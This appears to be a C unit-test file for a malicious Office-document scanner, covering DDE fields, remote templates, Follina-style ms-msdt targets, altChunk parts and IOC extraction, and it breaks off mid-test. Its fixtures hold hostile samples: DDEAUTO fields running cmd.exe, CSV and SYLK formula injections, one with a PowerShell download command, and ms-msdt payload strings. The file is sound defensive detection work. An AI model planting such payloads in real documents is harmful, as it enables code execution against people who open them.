/*
 * test_ooxml.c - unit tests for the OOXML analysers: relationships,
 * altChunk, DDE (Word XML, Excel, .doc, the shared field check) and IOCs.
 *
 * Most tests drive one analyser directly on hand-built artifacts, so they
 * do not depend on the ZIP, OPC or RTF handlers; the last group scans whole
 * documents built with libzip, end to end. Only documentation addresses
 * (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, *.example, .invalid).
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <string.h>
#include <glib.h>
#include <zip.h>

#include "core/handler.h"
#include "analyzers/dde.h"
#include "analyzers/iocs.h"
#include "testutil.h"

extern const lure_analyzer lure_analyzer_relationships;
extern const lure_analyzer lure_analyzer_altchunk;
extern const lure_analyzer lure_analyzer_dde;
extern const lure_analyzer lure_analyzer_iocs;

#define NS_REL "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define NS_REL_STRICT "http://purl.oclc.org/ooxml/officeDocument/relationships/"
#define T_TEMPLATE NS_REL "attachedTemplate"
#define T_OLE NS_REL "oleObject"
#define T_HYPERLINK NS_REL "hyperlink"
#define T_FRAME NS_REL "frame"
#define T_AFCHUNK NS_REL "aFChunk"

/* ---- a hand-built tree ---- */

/* A scan whose root (processed, bytes gone) has kind root_kind. */
static lure_scan *bare_scan(const char *root_kind)
{
	static const uint8_t dummy[] = "0";
	lure_scan *s = lure_scan_new(NULL, "input");
	assert_int_equal(lure_scan_run(s, dummy, 1), LURE_OK);
	lure_scan_root(s)->kind = root_kind;
	return s;
}

/* Adds a child named name of parent with a copy of text, of kind kind;
 * its bytes stay alive until the scan is freed (it is never processed). */
static lure_artifact *child(lure_scan *s, lure_artifact *parent, const char *name,
			    const char *kind, const void *data, size_t len)
{
	lure_artifact *a = NULL;
	assert_int_equal(lure_scan_add_child(s, parent, name, g_memdup2(data, len), len, &a),
			 LURE_OK);
	a->kind = kind;
	return a;
}

static lure_artifact *child_str(lure_scan *s, lure_artifact *parent, const char *name,
				const char *kind, const char *text)
{
	return child(s, parent, name, kind, text, strlen(text));
}

/* Runs analyser an on a as the driver would. */
static void run_on(const lure_analyzer *an, lure_scan *s, lure_artifact *a)
{
	assert_true(an->accepts(s, a));
	assert_int_equal(an->run(s, a), LURE_OK);
}

static bool has_ioc(const lure_scan *s, lure_ioc_type type, const char *value)
{
	for (guint i = 0; i < s->iocs[type]->len; i++)
		if (strcmp(g_ptr_array_index(s->iocs[type], i), value) == 0)
			return true;
	return false;
}

/* Findings of id on artifact a. */
static unsigned count_on(const lure_scan *s, const char *id, const lure_artifact *a)
{
	unsigned n = 0;
	for (guint i = 0; i < s->findings->len; i++) {
		const lure_finding *f = g_ptr_array_index(s->findings, i);
		if (strcmp(f->id, id) == 0 && f->artifact == a->id)
			n++;
	}
	return n;
}

/* ---- DDE: the shared field check ---- */

static void test_dde_check_field(void **state)
{
	static const struct {
		const char *instr;
		const char *field; /* NULL: not DDE */
	} cases[] = {
		{"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "DDEAUTO"},
		{" dde ", "DDE"},
		{"\"DDE\"", "DDE"},
		{"DDEX c:\\x", NULL},
		{"ddeauto cmd", "DDEAUTO"},
		{"\t\r\n  'DdEaUtO\"cmd\"", "DDEAUTO"},
		{"DDE", "DDE"},
		{"DDEAUTOX", NULL},
		{"DD E", NULL},
		{"HYPERLINK \"http://198.51.100.7/\"", NULL},
		{"", NULL},
		{"   ", NULL},
		{"XDDE", NULL},
		{"DDE_x", NULL},
	};
	(void)state;
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		lure_scan *s = bare_scan("data");
		lure_artifact *root = lure_scan_root(s);
		lure_finding *f = lure_dde_check_field(s, root, cases[i].instr,
						       strlen(cases[i].instr));
		if (cases[i].field == NULL) {
			assert_null(f);
			assert_int_equal(tu_count_findings(s, "dde.field"), 0);
		} else {
			assert_non_null(f);
			assert_string_equal(f->id, "dde.field");
			assert_int_equal(f->severity, LURE_SEV_HIGH);
			assert_string_equal(lure_finding_get_detail(f, "field"), cases[i].field);
			assert_non_null(lure_finding_get_detail(f, "command"));
		}
		lure_scan_free(s);
	}
}

static void test_dde_command_detail(void **state)
{
	const char *instr = "  DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"  ";
	lure_scan *s = bare_scan("data");
	(void)state;

	lure_finding *f = lure_dde_check_field(s, lure_scan_root(s), instr, strlen(instr));
	assert_non_null(f);
	assert_string_equal(lure_finding_get_detail(f, "command"),
			    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"");
	/* The same field again is one finding. */
	lure_finding *g = lure_dde_check_field(s, lure_scan_root(s), instr, strlen(instr));
	assert_ptr_equal(f, g);
	assert_int_equal(tu_count_findings(s, "dde.field"), 1);
	/* NULL and length bounds */
	assert_null(lure_dde_check_field(s, lure_scan_root(s), NULL, 0));
	assert_null(lure_dde_check_field(s, lure_scan_root(s), "DDEAUTO", 2));
	lure_scan_free(s);
}

static void test_dde_command_bounded(void **state)
{
	GString *instr = g_string_new("DDEAUTO ");
	(void)state;
	for (int i = 0; i < 5000; i++)
		g_string_append_c(instr, 'A' + (i % 26));
	lure_scan *s = bare_scan("data");
	lure_finding *f = lure_dde_check_field(s, lure_scan_root(s), instr->str, instr->len);
	assert_non_null(f);
	assert_true(strlen(lure_finding_get_detail(f, "command")) <= 512);
	g_string_free(instr, TRUE);
	lure_scan_free(s);
}

/* ---- DDE: Word XML ---- */

#define W_NS "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
#define DOC_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n" \
	"<w:document xmlns:w=\"" W_NS "\"><w:body><w:p>"
#define DOC_TAIL "</w:p></w:body></w:document>"
#define FLD(t) "<w:r><w:fldChar w:fldCharType=\"" t "\"/></w:r>"
#define INSTR(t) "<w:r><w:instrText xml:space=\"preserve\">" t "</w:instrText></w:r>"
#define RUN(t) "<w:r><w:t>" t "</w:t></w:r>"

static lure_scan *scan_xml_part(const char *name, const char *xml, lure_artifact **out)
{
	lure_scan *s = bare_scan("ooxml");
	lure_artifact *a = child_str(s, lure_scan_root(s), name, "xml", xml);
	run_on(&lure_analyzer_dde, s, a);
	if (out != NULL)
		*out = a;
	return s;
}

static void test_dde_word_split_runs(void **state)
{
	static const char xml[] = DOC_HEAD
		FLD("begin")
		INSTR(" D") INSTR("D") INSTR("E") INSTR("AUT")
		INSTR("O c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ")
		FLD("separate") RUN("result") FLD("end")
		DOC_TAIL;
	lure_artifact *a;
	lure_scan *s = scan_xml_part("word/document.xml", xml, &a);
	(void)state;

	const lure_finding *f = tu_find_finding(s, "dde.field", "field", "DDEAUTO");
	assert_non_null(f);
	assert_int_equal(f->artifact, a->id);
	assert_string_equal(lure_finding_get_detail(f, "command"),
			    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"");
	lure_scan_free(s);
}

static void test_dde_word_fldsimple(void **state)
{
	static const char xml[] = DOC_HEAD
		"<w:fldSimple w:instr=\" DDE c:\\\\windows\\\\system32\\\\cmd.exe &quot;/c calc&quot; \">"
		RUN("x") "</w:fldSimple>"
		DOC_TAIL;
	lure_scan *s = scan_xml_part("word/footer1.xml", xml, NULL);
	(void)state;

	const lure_finding *f = tu_find_finding(s, "dde.field", "field", "DDE");
	assert_non_null(f);
	assert_string_equal(lure_finding_get_detail(f, "command"),
			    "DDE c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\"");
	lure_scan_free(s);
}

static void test_dde_word_nested_quote(void **state)
{
	/* { DDEAUTO { QUOTE 99 109 100 } "/k calc" }: the nested field
	 * spells "cmd" by character codes. */
	static const char xml[] = DOC_HEAD
		FLD("begin") INSTR("DDEAUTO c:\\\\windows\\\\system32\\\\")
		FLD("begin") INSTR("QUOTE 99 109 100") FLD("separate") RUN("cmd") FLD("end")
		INSTR(".exe \"/k calc\"")
		FLD("separate") RUN("r") FLD("end")
		DOC_TAIL;
	lure_scan *s = scan_xml_part("word/document.xml", xml, NULL);
	(void)state;

	const lure_finding *f = tu_find_finding(s, "dde.field", NULL, NULL);
	assert_non_null(f);
	assert_string_equal(lure_finding_get_detail(f, "command"),
			    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"");
	assert_int_equal(tu_count_findings(s, "dde.field"), 1);
	lure_scan_free(s);
}

static void test_dde_word_nested_result(void **state)
{
	/* The keyword comes from a nested field's cached result, and the
	 * outer field has no "separate". */
	static const char xml[] = DOC_HEAD
		FLD("begin")
		FLD("begin") INSTR("SET x") FLD("separate") RUN("DDE") FLD("end")
		INSTR(" cmd \"/c calc\"")
		FLD("end")
		DOC_TAIL;
	lure_scan *s = scan_xml_part("word/document.xml", xml, NULL);
	(void)state;

	const lure_finding *f = tu_find_finding(s, "dde.field", "field", "DDE");
	assert_non_null(f);
	assert_string_equal(lure_finding_get_detail(f, "command"), "DDE cmd \"/c calc\"");
	lure_scan_free(s);
}

static void test_dde_word_strict_and_parts(void **state)
{
	static const char strict[] =
		"<w:hdr xmlns:w=\"http://purl.oclc.org/ooxml/wordprocessingml/main\"><w:p>"
		FLD("begin") INSTR("dDeAuTo calc") FLD("end") "</w:p></w:hdr>";
	static const char comments[] =
		"<w:comments xmlns:w=\"" W_NS "\"><w:comment><w:p>"
		"<w:fldSimple w:instr=\"DDE notepad\"/></w:p></w:comment></w:comments>";
	static const char other[] =
		"<w:styles xmlns:w=\"" W_NS "\"><w:p>"
		"<w:fldSimple w:instr=\"DDE notepad\"/></w:p></w:styles>";
	(void)state;

	lure_scan *s = scan_xml_part("word/header1.xml", strict, NULL);
	assert_non_null(tu_find_finding(s, "dde.field", "command", "dDeAuTo calc"));
	lure_scan_free(s);
	s = scan_xml_part("word/comments.xml", comments, NULL);
	assert_int_equal(tu_count_findings(s, "dde.field"), 1);
	lure_scan_free(s);
	/* Not a story part: not accepted. */
	s = bare_scan("ooxml");
	lure_artifact *a = child_str(s, lure_scan_root(s), "word/styles.xml", "xml", other);
	assert_false(lure_analyzer_dde.accepts(s, a));
	lure_scan_free(s);
}

static void test_dde_word_benign_fields(void **state)
{
	static const char xml[] = DOC_HEAD
		FLD("begin") INSTR(" PAGE ") FLD("separate") RUN("1") FLD("end")
		FLD("begin") INSTR(" HYPERLINK \"http://link.example/a\" ")
		FLD("separate") RUN("link") FLD("end")
		FLD("begin") INSTR(" INCLUDEPICTURE \"http://198.51.100.") INSTR("7/p.png\" \\\\d ")
		FLD("end")
		"<w:fldSimple w:instr=\" DDEX x \"/>"
		/* unbalanced: an end without a begin, a separate without one */
		FLD("end") FLD("separate")
		DOC_TAIL;
	lure_scan *s = scan_xml_part("word/document.xml", xml, NULL);
	(void)state;

	assert_int_equal(tu_count_findings(s, "dde.field"), 0);
	/* Field targets become IOCs, split runs or not. */
	assert_true(has_ioc(s, LURE_IOC_URL, "http://link.example/a"));
	assert_true(has_ioc(s, LURE_IOC_URL, "http://198.51.100.7/p.png"));
	assert_true(has_ioc(s, LURE_IOC_IP, "198.51.100.7"));
	lure_scan_free(s);
}

static void test_dde_word_deep_nesting(void **state)
{
	GString *xml = g_string_new(DOC_HEAD);
	(void)state;
	for (int i = 0; i < 100; i++)
		g_string_append(xml, FLD("begin") INSTR("DDE x"));
	for (int i = 0; i < 100; i++)
		g_string_append(xml, FLD("end"));
	/* left open at the end of the part */
	g_string_append(xml, FLD("begin") INSTR("DDEAUTO open"));
	g_string_append(xml, DOC_TAIL);
	lure_scan *s = scan_xml_part("word/document.xml", xml->str, NULL);
	assert_true(tu_count_findings(s, "dde.field") >= 1);
	assert_non_null(tu_find_finding(s, "dde.field", "command", "DDEAUTO open"));
	g_string_free(xml, TRUE);
	lure_scan_free(s);
}

static void test_dde_word_dedupe(void **state)
{
	GString *xml = g_string_new(DOC_HEAD);
	(void)state;
	for (int i = 0; i < 10; i++)
		g_string_append(xml, FLD("begin") INSTR("DDEAUTO same") FLD("end"));
	for (int i = 0; i < 500; i++)
		g_string_append_printf(xml, "<w:fldSimple w:instr=\"DDE cmd%d\"/>", i);
	g_string_append(xml, DOC_TAIL);
	lure_scan *s = scan_xml_part("word/document.xml", xml->str, NULL);
	assert_non_null(tu_find_finding(s, "dde.field", "command", "DDEAUTO same"));
	/* one per command, and a bounded number per artifact */
	assert_true(tu_count_findings(s, "dde.field") <= 64);
	assert_true(tu_count_findings(s, "dde.field") >= 2);
	g_string_free(xml, TRUE);
	lure_scan_free(s);
}

static void test_dde_word_utf16_part(void **state)
{
	static const char xml[] = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>"
		"<w:document xmlns:w=\"" W_NS "\"><w:body><w:p>"
		FLD("begin") INSTR("DDEAUTO ") INSTR("calc") FLD("end")
		"<w:fldSimple w:instr=\"HYPERLINK &quot;http://wide.example/x&quot;\"/>"
		DOC_TAIL;
	gsize n = 0;
	char *wide = g_convert(xml, -1, "UTF-16LE", "UTF-8", NULL, &n, NULL);
	(void)state;
	assert_non_null(wide);
	GByteArray *b = g_byte_array_new();
	g_byte_array_append(b, (const uint8_t *)"\xff\xfe", 2);
	g_byte_array_append(b, (const uint8_t *)wide, (guint)n);
	g_free(wide);

	/* the core sniffs UTF-8 only: such a part arrives as "data" */
	lure_scan *s = bare_scan("ooxml");
	lure_artifact *a = child(s, lure_scan_root(s), "word/document.xml", "data", b->data,
				 b->len);
	run_on(&lure_analyzer_dde, s, a);
	run_on(&lure_analyzer_iocs, s, a);
	assert_non_null(tu_find_finding(s, "dde.field", "command", "DDEAUTO calc"));
	assert_true(has_ioc(s, LURE_IOC_URL, "http://wide.example/x"));
	assert_false(has_ioc(s, LURE_IOC_DOMAIN, "schemas.openxmlformats.org"));
	assert_int_equal(s->iocs[LURE_IOC_URL]->len, 1);
	lure_scan_free(s);
	g_byte_array_free(b, TRUE);
}

/* ---- DDE: Excel ---- */

static void test_dde_excel_ddelink(void **state)
{
	static const char xml[] =
		"<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
		"<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
		"<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"><ddeItems>"
		"<ddeItem name=\"A0\" advise=\"1\"/></ddeItems></ddeLink></externalLink>";
	static const char sheet[] =
		"<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
		"<sheetData><row r=\"1\"><c r=\"A1\"><f>cmd|' /C calc'!A0</f></c>"
		"<c r=\"A2\"><f>MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''</f></c>"
		"<c r=\"A3\"><f>\"a|b'!\"&amp;B1</f></c>"
		"<c r=\"A4\"><f>SUM(B1:B2)</f></c></row></sheetData></worksheet>";
	lure_artifact *a;
	(void)state;

	lure_scan *s = scan_xml_part("xl/externalLinks/externalLink1.xml", xml, &a);
	const lure_finding *f = tu_find_finding(s, "dde.field", "field", "ddeLink");
	assert_non_null(f);
	assert_string_equal(lure_finding_get_detail(f, "command"), "cmd|/c calc");
	assert_int_equal(f->severity, LURE_SEV_HIGH);
	lure_scan_free(s);

	s = scan_xml_part("xl/worksheets/sheet1.xml", sheet, &a);
	assert_int_equal(tu_count_findings(s, "dde.field"), 2);
	assert_non_null(tu_find_finding(s, "dde.field", "command", "cmd|' /C calc'!A0"));
	lure_scan_free(s);
}

static void test_dde_csv_sylk(void **state)
{
	static const char csv[] = "Name,Amount\r\nAlice,12\r\n"
		"Bob,\"=cmd|' /C powershell iwr http://203.0.113.3/p'!A0\"\r\n"
		"Carol,@SUM(1+1)*cmd|' /C calc'!A0\r\n";
	static const char sylk[] = "ID;P\nC;X1;Y1;K0;E=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''\nE\n";
	static const char benign[] = "a|b|c\nshell: ls | grep x\nx = 'a|b'! and y=1 | 'z'\n";
	(void)state;

	lure_scan *s = bare_scan("data");
	lure_artifact *a = child_str(s, lure_scan_root(s), "list.csv", "data", csv);
	run_on(&lure_analyzer_dde, s, a);
	assert_int_equal(tu_count_findings(s, "dde.field"), 2);
	assert_non_null(tu_find_finding(s, "dde.field", "field", "formula"));
	lure_scan_free(s);

	s = bare_scan("data");
	a = child_str(s, lure_scan_root(s), "x.slk", "data", sylk);
	run_on(&lure_analyzer_dde, s, a);
	assert_int_equal(tu_count_findings(s, "dde.field"), 1);
	lure_scan_free(s);

	s = bare_scan("data");
	a = child_str(s, lure_scan_root(s), "notes.txt", "data", benign);
	if (lure_analyzer_dde.accepts(s, a))
		assert_int_equal(lure_analyzer_dde.run(s, a), LURE_OK);
	assert_int_equal(tu_count_findings(s, "dde.field"), 0);
	/* binary data is not read as lines */
	a = child(s, lure_scan_root(s), "img", "data", "\x89PNG\0=cmd|'x'!A", 16);
	assert_false(lure_analyzer_dde.accepts(s, a));
	lure_scan_free(s);
}

/* ---- DDE: .doc WordDocument stream ---- */

static void test_dde_word_document_8bit(void **state)
{
	static const char instr[] = " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ";
	GByteArray *b = g_byte_array_new();
	static const uint8_t fib[] = {0xEC, 0xA5, 0xC1, 0x00, 0x13, 'P', 'A', 'G', 'E', 0x15};
	(void)state;
	g_byte_array_append(b, fib, sizeof(fib));
	uint8_t c = 0x13;
	g_byte_array_append(b, &c, 1);
	g_byte_array_append(b, (const uint8_t *)instr, strlen(instr));
	c = 0x14;
	g_byte_array_append(b, &c, 1);
	g_byte_array_append(b, (const uint8_t *)"result", 6);
	c = 0x15;
	g_byte_array_append(b, &c, 1);
	/* DDEX is not a field type; a 0x13 at the very end is harmless */
	g_byte_array_append(b, (const uint8_t *)"\x13" "DDEX\x15\x13", 7);

	lure_scan *s = bare_scan("ole2");
	lure_artifact *a = child(s, lure_scan_root(s), "WordDocument", "data", b->data, b->len);
	run_on(&lure_analyzer_dde, s, a);
	assert_int_equal(tu_count_findings(s, "dde.field"), 1);
	assert_non_null(tu_find_finding(s, "dde.field", "command",
					"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""));
	lure_scan_free(s);
	g_byte_array_free(b, TRUE);
}

static void test_dde_word_document_utf16(void **state)
{
	static const char instr[] = " DDE cmd.exe \"/c ";
	GByteArray *b = g_byte_array_new();
	(void)state;
	static const uint8_t lead[] = {0xEC, 0xA5, 0x00, 0x00, 0x13, 0x00};
	g_byte_array_append(b, lead, sizeof(lead));
	for (const char *p = instr; *p; p++) {
		uint8_t u[2] = {(uint8_t)*p, 0};
		g_byte_array_append(b, u, 2);
	}
	/* a nested field inside the instruction: code dropped, result kept */
	static const uint8_t nested[] = {0x13, 0, 'Q', 0, 0x14, 0, 'c', 0, 'a', 0, 'l', 0,
					 'c', 0, 0x15, 0, '"', 0, 0x14, 0, 'r', 0, 0x15, 0};
	g_byte_array_append(b, nested, sizeof(nested));

	lure_scan *s = bare_scan("ole2");
	lure_artifact *a = child(s, lure_scan_root(s), "ObjectPool/_1/WordDocument", "data",
				 b->data, b->len);
	run_on(&lure_analyzer_dde, s, a);
	assert_non_null(tu_find_finding(s, "dde.field", "command", "DDE cmd.exe \"/c calc\""));
	lure_scan_free(s);
	g_byte_array_free(b, TRUE);

	/* another stream name is not read */
	s = bare_scan("ole2");
	a = child_str(s, lure_scan_root(s), "1Table", "data", "\x13" "DDEAUTO x\x15");
	assert_false(lure_analyzer_dde.accepts(s, a));
	lure_scan_free(s);
}

/* ---- relationships ---- */

/* Judges one relationship recorded on a fresh "rels" artifact. */
static lure_scan *judge(const char *type, const char *target, const char *mode)
{
	lure_scan *s = bare_scan("ooxml");
	lure_artifact *rels = child_str(s, lure_scan_root(s), "word/_rels/settings.xml.rels",
					"rels", "<Relationships/>");
	lure_scan_add_relationship(s, rels, "word/settings.xml", "rId1", type, target, mode);
	run_on(&lure_analyzer_relationships, s, rels);
	return s;
}

/* The one finding of a judged relationship (asserting there is exactly
 * one), or NULL when there is none. */
static const lure_finding *only_finding(const lure_scan *s)
{
	const lure_finding *found = NULL;
	unsigned n = 0;
	for (guint i = 0; i < s->findings->len; i++) {
		const lure_finding *f = g_ptr_array_index(s->findings, i);
		if (strncmp(f->id, "ooxml.", 6) != 0)
			continue;
		found = f;
		n++;
	}
	assert_true(n <= 1);
	return found;
}

static void expect(const char *type, const char *target, const char *mode, const char *id,
		   lure_severity sev)
{
	lure_scan *s = judge(type, target, mode);
	const lure_finding *f = only_finding(s);
	if (id == NULL) {
		assert_null(f);
	} else {
		if (f == NULL)
			fail_msg("no finding for %s", target);
		if (strcmp(f->id, id) != 0 || f->severity != sev)
			fail_msg("%s: got %s/%s, wanted %s/%s", target, f->id,
				 lure_severity_name(f->severity), id, lure_severity_name(sev));
	}
	lure_scan_free(s);
}

static void test_rels_remote_template(void **state)
{
	(void)state;
	expect(T_TEMPLATE, "http://template.example/t.dotm", "External",
	       "ooxml.remote_template", LURE_SEV_HIGH);
	expect(T_TEMPLATE, "https://192.0.2.5/t.dotm", "External",
	       "ooxml.remote_template", LURE_SEV_HIGH);
	expect(T_TEMPLATE, "\\\\192.0.2.10\\share\\t.dotm", "External",
	       "ooxml.remote_template", LURE_SEV_HIGH);
	expect(T_TEMPLATE, "file://192.0.2.10/share/t.dotm", "External",
	       "ooxml.remote_template", LURE_SEV_HIGH);
	expect(T_TEMPLATE, "HtTp://template.example/t.dotm", "external",
	       "ooxml.remote_template", LURE_SEV_HIGH);
	expect(T_TEMPLATE, "%68ttp://template.example/t.dotm", " External ",
	       "ooxml.remote_template", LURE_SEV_HIGH);
	expect(T_TEMPLATE, "&#x68;ttp://template.example/t.dotm", "External",
	       "ooxml.remote_template", LURE_SEV_HIGH);
	expect(NS_REL_STRICT "attachedTemplate", "http://template.example/t.dotm", "External",
	       "ooxml.remote_template", LURE_SEV_HIGH);
	/* local templates */
	expect(T_TEMPLATE, "Normal.dotm", NULL, NULL, LURE_SEV_INFO);
	expect(T_TEMPLATE, "file:///C:\\templates\\x.dotm", "External",
	       "ooxml.external_relationship", LURE_SEV_INFO);
	expect(T_TEMPLATE, "file:///C:/Users/u/AppData/Roaming/Microsoft/Templates/Normal.dotm",
	       "External", "ooxml.external_relationship", LURE_SEV_INFO);
}

static void test_rels_details(void **state)
{
	(void)state;
	lure_scan *s = judge(T_TEMPLATE, "  HtTp://Template.example/%74.dotm ", "External");
	const lure_finding *f = only_finding(s);
	assert_non_null(f);
	assert_string_equal(lure_finding_get_detail(f, "type"), "attachedTemplate");
	assert_string_equal(lure_finding_get_detail(f, "target"),
			    "  HtTp://Template.example/%74.dotm ");
	assert_string_equal(lure_finding_get_detail(f, "target_normalized"),
			    "http://Template.example/t.dotm");
	assert_string_equal(lure_finding_get_detail(f, "scheme"), "http");
	assert_string_equal(lure_finding_get_detail(f, "source_part"), "word/settings.xml");
	assert_string_equal(lure_finding_get_detail(f, "host"), "template.example");
	lure_scan_free(s);
}

static void test_rels_follina_mhtml(void **state)
{
	(void)state;
	expect(T_OLE, "http://192.0.2.20/x.html!", "External", "ooxml.msdt_target",
	       LURE_SEV_CRITICAL);
	/* a newline after the '!' (&#10; in the XML) does not hide it */
	expect(T_OLE, "http://192.0.2.20/x.html!\n", "External", "ooxml.msdt_target",
	       LURE_SEV_CRITICAL);
	expect(T_OLE, "ms-msdt:/id PCWDiagnostic /skip force", "External",
	       "ooxml.msdt_target", LURE_SEV_CRITICAL);
	expect(T_OLE, "MS-MSDT:/id PCWDiagnostic", "External", "ooxml.msdt_target",
	       LURE_SEV_CRITICAL);
	expect(T_OLE, "mhtml:http://192.0.2.30/x.html!x-usc:http://192.0.2.30/x.html",
	       "External", "ooxml.mhtml_target", LURE_SEV_HIGH);
	expect(T_TEMPLATE, "MHTML:http://192.0.2.30/t.dotm!x-usc:http://192.0.2.30/t",
	       "External", "ooxml.mhtml_target", LURE_SEV_HIGH);
	/* a trailing '!' on a hyperlink is just a URL */
	expect(T_HYPERLINK, "https://news.example/wow!", "External",
	       "ooxml.external_relationship", LURE_SEV_INFO);
}

static void test_rels_external_types(void **state)
{
	(void)state;
	expect(T_HYPERLINK, "http://192.0.2.1/page", "External",
	       "ooxml.external_relationship", LURE_SEV_INFO);
	expect(T_HYPERLINK, "https://www.example/", "External",
	       "ooxml.external_relationship", LURE_SEV_INFO);
	expect(T_HYPERLINK, "search-ms:query=x&crumb=location:\\\\192.0.2.9\\s", "External",
	       "ooxml.external_relationship", LURE_SEV_MEDIUM);
	expect(T_OLE, "http://192.0.2.40/obj.doc", "External",
	       "ooxml.external_relationship", LURE_SEV_HIGH);
	expect(T_FRAME, "\\\\192.0.2.50\\share\\f.htm", "External",
	       "ooxml.external_relationship", LURE_SEV_HIGH);
	expect(NS_REL "subDocument", "https://sub.example/d.docx", "External",
	       "ooxml.external_relationship", LURE_SEV_HIGH);
	expect(NS_REL "externalLink", "//192.0.2.60/share/book.xlsx", "External",
	       "ooxml.external_relationship", LURE_SEV_HIGH);
	expect(NS_REL "oleObject", "C:\\data\\obj.bin", "External",
	       "ooxml.external_relationship", LURE_SEV_INFO);
	expect(NS_REL "image", "media/image1.png", NULL, NULL, LURE_SEV_INFO);
	expect(NS_REL "image", "../media/image1.png", "Internal", NULL, LURE_SEV_INFO);
	expect(NS_REL "image", "http://images.example/i.png", "External",
	       "ooxml.external_relationship", LURE_SEV_HIGH);
	/* an Internal relationship with a remote URI is judged anyway */
	expect(T_OLE, "http://192.0.2.41/obj", NULL, "ooxml.external_relationship",
	       LURE_SEV_HIGH);
}

static void test_rels_many(void **state)
{
	lure_scan *s = bare_scan("ooxml");
	(void)state;
	/* a relationship of an earlier rels part is not judged again */
	lure_artifact *r1 = child_str(s, lure_scan_root(s), "_rels/.rels", "rels", "<R/>");
	lure_scan_add_relationship(s, r1, "", "rId1", T_OLE, "http://192.0.2.1/a", "External");
	run_on(&lure_analyzer_relationships, s, r1);
	lure_artifact *r2 = child_str(s, lure_scan_root(s), "word/_rels/document.xml.rels",
				      "rels", "<R/>");
	for (int i = 0; i < 3; i++)
		lure_scan_add_relationship(s, r2, "word/document.xml", "rIdH", T_HYPERLINK,
					   "http://link.example/", "External");
	run_on(&lure_analyzer_relationships, s, r2);
	assert_int_equal(count_on(s, "ooxml.external_relationship", r1), 1);
	assert_int_equal(count_on(s, "ooxml.external_relationship", r2), 3);
	lure_scan_free(s);
}

/* ---- altChunk ---- */

typedef struct chunk_doc {
	lure_scan *s;
	lure_artifact *rels;
	lure_artifact *part;
} chunk_doc;

/* A package with a document.xml.rels naming target as aFChunk, and (when
 * part_name is set) a part of that name holding data. */
static void chunk_setup(chunk_doc *d, const char *target, const char *part_name,
			const char *kind, const char *content_type, const char *data)
{
	d->s = bare_scan("ooxml");
	lure_artifact *root = lure_scan_root(d->s);
	d->rels = child_str(d->s, root, "word/_rels/document.xml.rels", "rels", "<R/>");
	lure_scan_add_relationship(d->s, d->rels, "word/document.xml", "rIdC", T_AFCHUNK,
				   target, NULL);
	d->part = NULL;
	if (part_name != NULL) {
		d->part = child_str(d->s, root, part_name, kind, data);
		if (content_type != NULL)
			lure_artifact_set_prop(d->part, "content_type", content_type);
		if (lure_analyzer_altchunk.accepts(d->s, d->part))
			assert_int_equal(lure_analyzer_altchunk.run(d->s, d->part), LURE_OK);
	}
}

static const lure_finding *chunk_finish(chunk_doc *d)
{
	assert_int_equal(lure_analyzer_altchunk.finish(d->s), LURE_OK);
	assert_int_equal(tu_count_findings(d->s, "ooxml.altchunk"), 1);
	return tu_find_finding(d->s, "ooxml.altchunk", NULL, NULL);
}

static void test_altchunk_rtf_with_object(void **state)
{
	chunk_doc d;
	(void)state;
	chunk_setup(&d, "afchunk.rtf", "word/afchunk.rtf", "rtf", "application/rtf",
		    "{\\rtf1{\\object\\objautlink}}");
	/* the RTF handler's work, by hand: object[0] > ole1 with rtf.object */
	lure_artifact *obj = child_str(d.s, d.part, "object[0]", "ole1", "x");
	lure_artifact *inner = child_str(d.s, obj, "native", "ole2", "y");
	lure_finding_add(d.s, inner, LURE_IND_RTF_OBJECT, "an object");
	const lure_finding *f = chunk_finish(&d);
	assert_int_equal(f->artifact, d.part->id);
	assert_int_equal(f->severity, LURE_SEV_HIGH);
	assert_string_equal(lure_finding_get_detail(f, "part"), "word/afchunk.rtf");
	assert_string_equal(lure_finding_get_detail(f, "content_type"), "application/rtf");
	assert_string_equal(lure_finding_get_detail(f, "source_part"), "word/document.xml");
	assert_string_equal(lure_finding_get_detail(f, "objects"), "1");
	lure_scan_free(d.s);
}

static void test_altchunk_rtf_plain(void **state)
{
	chunk_doc d;
	(void)state;
	/* content type decides, even with another kind and name */
	chunk_setup(&d, "/word/chunk.bin", "word/chunk.bin", "data", "text/rtf; charset=x",
		    "hello");
	const lure_finding *f = chunk_finish(&d);
	assert_int_equal(f->artifact, d.part->id);
	assert_int_equal(f->severity, LURE_SEV_MEDIUM);
	lure_scan_free(d.s);
}

static void test_altchunk_html(void **state)
{
	chunk_doc d;
	(void)state;
	chunk_setup(&d, "chunk.htm", "word/chunk.htm", "data", "text/html",
		    "<html><body><p>Dear colleague</p></body></html>");
	const lure_finding *f = chunk_finish(&d);
	/* plain HTML (no script, no remote reference): low, the benign case */
	assert_int_equal(f->severity, LURE_SEV_LOW);
	assert_string_equal(lure_artifact_get_prop(d.part, "html_script"), "no");
	lure_scan_free(d.s);

	/* script: high, content type arriving later or never */
	chunk_setup(&d, "chunk.htm", "word/chunk.htm", "data", NULL,
		    "<!DOCTYPE html><html><body><SCRIPT>location.href='ms-msdt:x'</SCRIPT>"
		    "</body></html>");
	f = chunk_finish(&d);
